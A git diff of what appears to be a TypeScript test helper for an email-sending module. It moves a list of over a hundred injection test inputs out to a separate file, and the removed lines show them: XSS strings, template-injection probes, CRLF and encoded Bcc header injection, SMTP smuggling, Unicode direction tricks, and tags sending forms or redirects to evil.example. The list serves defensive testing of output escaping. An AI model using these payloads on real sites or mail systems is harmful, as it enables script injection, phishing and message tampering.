@@ -1,5 +1,7 @@
 import type { Sender, Told } from '../../server/rules/mail/kinds.ts'
 
+export { payloads } from './payloads.ts'
+
 export const acme: Sender = {
   name: 'Acme',
   siteUrl: 'https://acme.example',
@@ -57,57 +59,3 @@ export function textsIn(value: unknown, path = ''): Map<string, string> {
   const entries = Object.entries(value as object).flatMap(([name, each]) => [...textsIn(each, `${path}/${name}`)])
   return new Map(entries)
 }
-
-const scripts = [
-  '<script>alert(1)</script>',
-  '<img src=x onerror=alert(1)>',
-  '<svg/onload=alert(1)>',
-  '<iframe srcdoc=x>',
-  '<a href=javascript:alert(1)>x</a>',
-]
-const breakers = ['', '"', "'", '">', "'>", '</p>', '</bdi>', '</title>', '</style>', '-->', ']]>', '<!--', '&lt;']
-const others = [
-  '{{constructor.constructor("alert(1)")()}}',
-  '{program}',
-  '{reason}',
-  '$' + '{alert(1)}',
-  '<%= 1 %>',
-  '<![endif]-->',
-  '<!--[if mso]>',
-  '<base href=//evil.example>',
-  '<meta http-equiv=refresh content=0;url=//evil.example>',
-  '<link rel=stylesheet href=//evil.example>',
-  '<style>*{display:none}</style>',
-  '<form action=//evil.example><input name=password>',
-  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  'x\r\nBcc: everybody@example.com',
-  'x\nSubject: Another\n\nbody',
-  'x\r\n\r\n<html>',
-  'x\r\n.\r\nMAIL FROM:<evil@example.com>',
-  '=?utf-8?Q?=0D=0ABcc:_evil@example.com?=',
-  '=?utf-8?B?DQpCY2M6IGV2aWxAZXhhbXBsZS5jb20=?=',
-  '"Acme" <evil@example.com>',
-  'evil@example.com, other@example.com',
-  'Acme\u0000',
-  'Acme\u0085Bcc: evil@example.com',
-  'Acme\u2028Bcc: evil@example.com',
-  'Acme\u202egnp.exe',
-  '\u2066Acme',
-  '&#60;script&#62;',
-  '&amp;lt;script&amp;gt;',
-  '＜script＞alert(1)＜/script＞',
-  '%3Cscript%3Ealert(1)%3C/script%3E',
-  '\\u003cscript\\u003e',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<IMG SRC=JaVaScRiPt:alert(1)>',
-  'javascript:alert(1)',
-  'data:text/html,<script>alert(1)</script>',
-  '<x onclick=alert(1)>x',
-  '" onmouseover="alert(1)',
-  "' onmouseover='alert(1)",
-  '` onmouseover=`alert(1)',
-]
-
-/** More than a hundred attempts to be more than text. */
-export const payloads = [...breakers.flatMap(before => scripts.map(script => before + script)), ...others]
